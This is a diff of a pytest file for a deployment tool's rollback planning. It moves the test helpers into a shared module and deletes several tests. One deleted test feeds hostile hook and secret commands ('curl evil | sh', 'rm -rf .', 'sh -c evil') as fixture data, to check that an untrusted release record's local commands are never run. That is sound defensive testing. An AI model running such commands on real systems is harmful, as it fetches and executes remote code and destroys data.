@@ -3,18 +3,12 @@
 from __future__ import annotations
 
 from dataclasses import replace
-from datetime import UTC, datetime
-from pathlib import Path
-from typing import TYPE_CHECKING
 
 import pytest
 
-from ftl.config.models.project import Dependency, Hook, Hooks, ProjectInfo, Server
-from ftl.config.models.proxy import Redirect, Registry
-from ftl.config.models.secret import Secret
+from ftl.config.models.project import Dependency, Hook, Hooks
+from ftl.config.models.proxy import Redirect
 from ftl.deploy.plan.desired.sources import BuiltImage
-from ftl.deploy.plan.desired.specs import service_container
-from ftl.deploy.plan.records.recorded import recorded_project
 from ftl.deploy.plan.steps import (
     DropTags,
     PushPull,
@@ -27,82 +21,14 @@ from ftl.deploy.plan.steps import (
     TagPulled,
     WaitHealthy,
 )
-from ftl.deploy.request import Author
-from ftl.engine.values import Image
 from ftl.errors import UsageError
 from ftl.health.spec import SETTLE_SECONDS
-from ftl.operations.changes.change import ChangeRequest
 from ftl.operations.changes.mark_bad import plan_mark
-from ftl.operations.changes.rollback import RollbackRequest, command_line, plan_rollback, restored_project
+from ftl.operations.changes.rollback import command_line, plan_rollback, restored_project
 from ftl.operations.changes.rollback_target import choose
 from ftl.operations.views.releases import listed
-from ftl.proxy.tls.x509 import X509Certificate
-from ftl.releases.record import ReleaseRecord, ServiceRecord
-from tests.unit.deploy.world import container, dependency, first, kinds, plan, project, server, service
-
-if TYPE_CHECKING:
-    from ftl.config import Project
-    from ftl.deploy.observe.state import Observed
-    from ftl.deploy.plan.model import Plan
-    from ftl.releases.record import ReleaseOutcome
-
-HERE = Server(host="server")
-REQUEST = RollbackRequest(ChangeRequest("shop", HERE, Path()))
-ME = Author("me@here", commit="c" * 40)
-
-
-def released(
-    asked: Project, release: str, *, outcome: ReleaseOutcome = "live", bad: str = "", pulled: str = ""
-) -> ReleaseRecord:
-    """The record of a release of every service of a project, with content named after the release."""
-    return ReleaseRecord(
-        release,
-        outcome,
-        float(release[1:]),
-        commit=release[1:] * 40,
-        subject=f"work of {release}",
-        bad=bad,
-        project=asked.to_dict(),
-        services={
-            one.name: ServiceRecord(
-                release,
-                f"shop-{one.name}:{release}" if one.build is not None else (one.image or ""),
-                f"sha256:{one.name}{release}",
-                f"content-{release}",
-                service_container(asked, one).config,
-                pulled,
-            )
-            for one in asked.services
-        },
-    )
-
-
-def image(release: str, name: str = "web") -> Image:
-    """The image of a service at a release, as FTL tagged it on the server."""
-    return Image(f"sha256:{name}{release}", (f"shop-{name}:{release}",), (), (), {}, "linux/amd64", 1)
-
-
-def on_server(
-    asked: Project, *records: ReleaseRecord, images: tuple[Image, ...] = (), live: str = "r2"
-) -> Observed:
-    """A server where the project runs at a release."""
-    running = [
-        *(
-            one
-            for each in asked.services
-            for one in container(asked, each.name, live, content=f"content-{live}")
-        ),
-        *(dependency(asked, each.name) for each in asked.dependencies),
-    ]
-    return server(
-        asked, *running, live={each.name: live for each in asked.services}, images=images, releases=records
-    )
-
-
-def rolled_back(observed: Observed, release: str | None = None, **request: object) -> Plan:
-    """The plan of a rollback."""
-    asked = replace(REQUEST, release=release, **request)  # type: ignore[arg-type]
-    return plan_rollback(asked, choose(observed, release), ME, {}, observed)
+from tests.unit.deploy.world import container, first, kinds, plan, project, server, service
+from tests.unit.operations.rollback_world import HERE, ME, REQUEST, image, on_server, released, rolled_back
 
 
 def test_it_restores_image_and_env_as_recorded_in_a_new_release() -> None:
@@ -178,17 +104,6 @@ def test_dependencies_stay_as_they_are_and_the_note_names_those_that_differed() 
     assert any("r1 had others: postgres (postgres:15, now postgres:16)" in note for note in made.notes)
 
 
-def test_an_image_that_is_gone_is_refused_before_anything_happens() -> None:
-    """The error says which image, and to which releases a rollback is possible."""
-    asked = project()
-    records = [released(asked, f"r{number}") for number in (1, 2, 3)]
-    observed = on_server(asked, *records, images=(image("r2"), image("r3")), live="r3")
-    with pytest.raises(UsageError, match=r"r1 cannot be restored.*image of web") as refused:
-        rolled_back(observed, "r1")
-    assert "possible are r2" in (refused.value.hint or "")
-    assert "`ftl rollback r1 --rebuild` builds it from commit 111111111111" in (refused.value.hint or "")
-
-
 def test_fresh_values_replace_recorded_ones_of_the_same_name() -> None:
     """Names that only today's ftl.yaml has are unknown to the older release."""
     old, new = project(service(env={"DB": "old", "A": "1"})), project(service(env={"DB": "new", "B": "2"}))
@@ -255,49 +170,6 @@ def test_a_rollback_is_undone_by_the_next_one() -> None:
         choose(on_server(asked, released(asked, "r1"), bad, restored, live="r3"), None)
 
 
-@pytest.mark.parametrize(
-    ("release", "words"),
-    [
-        (None, "no release before r1"),
-        ("r9", "no release `r9`"),
-        ("r2", "r2 never was live"),
-        ("web", "no release `web`"),
-    ],
-)
-def test_a_release_that_cannot_be_restored_is_refused(release: str | None, words: str) -> None:
-    """Nothing to go back to, unknown names, and a release that failed."""
-    asked = project()
-    observed = on_server(asked, released(asked, "r1"), released(asked, "r2", outcome="failed"), live="r1")
-    with pytest.raises(UsageError, match=words) as refused:
-        choose(observed, release)
-    assert refused.value.hint
-
-
-def test_a_release_from_before_a_removal_is_refused_with_the_reason() -> None:
-    """It was live once, and `ftl remove` forgot its configuration."""
-    asked = project()
-    gone = replace(released(asked, "r1", outcome="replaced"), project={})
-    observed = on_server(asked, gone, released(asked, "r2"), live="r2")
-    with pytest.raises(UsageError, match="r1 cannot be restored: shop was removed since"):
-        choose(observed, "r1")
-
-
-def test_nothing_was_deployed() -> None:
-    """The error names the next step."""
-    with pytest.raises(UsageError, match="shop is not deployed") as refused:
-        choose(server(project(), ready=False), None)
-    assert "ftl deploy" in (refused.value.hint or "")
-
-
-def test_the_live_release_needs_no_rollback() -> None:
-    """A rollback to what serves already does nothing."""
-    asked = project()
-    observed = on_server(
-        asked, released(asked, "r1"), released(asked, "r2"), images=(image("r1"), image("r2"))
-    )
-    assert rolled_back(observed, "r2").empty
-
-
 def test_a_hold_is_set_before_the_switch() -> None:
     """Deploys stop with the reason that was given."""
     asked = project()
@@ -352,20 +224,6 @@ def test_a_mark_changes_the_record_alone() -> None:
         plan_mark(observed, "r7", "slow")
 
 
-def test_nothing_of_a_record_acts_on_this_machine() -> None:
-    """Registries' and secrets' commands and local hooks of a record are not run: others may have written it."""
-    hooks = Hooks(pre=Hook(local="curl evil | sh", remote="migrate"), post=Hook(local="rm -rf ."))
-    asked = replace(
-        project(service(hooks=hooks)),
-        registries=(Registry(server="registry.example.com", command=("sh", "-c", "evil")),),
-        secrets=(Secret(name="A", command=("evil",)),),
-    )
-    restored = recorded_project(released(asked, "r1"), HERE)
-    (web,) = restored.services
-    assert web.hooks == Hooks(pre=Hook(remote="migrate"))
-    assert (restored.registries, restored.secrets) == ((), ())
-
-
 def test_redirects_come_back_with_the_routes_that_they_lead_to() -> None:
     """With the live release's redirect from www to the bare domain, the restored domain would lead nowhere."""
     old, new = project(), project()
@@ -373,27 +231,6 @@ def test_redirects_come_back_with_the_routes_that_they_lead_to() -> None:
     observed = on_server(new, released(old, "r1"), released(new, "r2"), images=(image("r1"), image("r2")))
     target = choose(observed, "r1")
     assert restored_project(observed, target, REQUEST).proxy.redirects == ()
-
-
-@pytest.mark.parametrize(("before", "now"), [("db", "db"), ("db", "database")])
-def test_a_service_that_became_a_dependency_is_not_started_on_its_data(before: str, now: str) -> None:
-    """Two servers on one data directory destroy it."""
-    old = project(service(), service(before, volumes=("data:/data",)))
-    new = project(
-        service(), dependencies=(Dependency(name=now, image="postgres:16", volumes=("data:/data",)),)
-    )
-    observed = on_server(new, released(old, "r1"), released(new, "r2"), images=(image("r1"), image("r2")))
-    with pytest.raises(UsageError, match="was a service then"):
-        rolled_back(observed, "r1")
-
-
-def test_a_dependency_that_became_a_service_is_not_removed() -> None:
-    """A rollback leaves data alone, so it cannot take such a change back."""
-    old = project(service(), dependencies=(Dependency(name="db", image="postgres:16"),))
-    new = project(service(), service("db"))
-    observed = on_server(new, released(old, "r1"), released(new, "r2"), images=(image("r1"), image("r2")))
-    with pytest.raises(UsageError, match="was a dependency then"):
-        rolled_back(observed, "r1")
 
 
 def test_the_command_that_finishes_a_rollback_repeats_its_target_and_options() -> None:
@@ -416,17 +253,3 @@ def test_a_dependency_that_was_stopped_on_purpose_stays_stopped() -> None:
     made = rolled_back(replace(observed, containers=stopped))
     assert not any(step.subject == "db" for step in made.steps)
     assert any("`ftl start db`" in note for note in made.notes)
-
-
-def test_hosts_that_the_proxys_certificate_does_not_cover_are_refused() -> None:
-    """A rollback leaves certificates as they are: visitors of the older host would get an error."""
-    old = replace(project(), project=ProjectInfo(name="shop", domain="old.example.org"))
-    observed = on_server(project(), released(old, "r1"), released(project(), "r2"), images=(image("r1"),))
-    target = choose(observed, "r1")
-    begin, end = datetime(2020, 1, 1, tzinfo=UTC), datetime(2040, 1, 1, tzinfo=UTC)
-    certificate = X509Certificate("CA", ("*.example.com",), begin, end)
-    with pytest.raises(UsageError, match=r"does not cover old\.example\.org"):
-        plan_rollback(REQUEST, target, ME, {}, observed, certificate)
-    covering = replace(certificate, names=("*.example.com", "*.example.org"))
-    made = plan_rollback(REQUEST, target, ME, {}, observed, covering)
-    assert any("r1 answers old.example.org, and no longer shop.example.com" in note for note in made.notes)
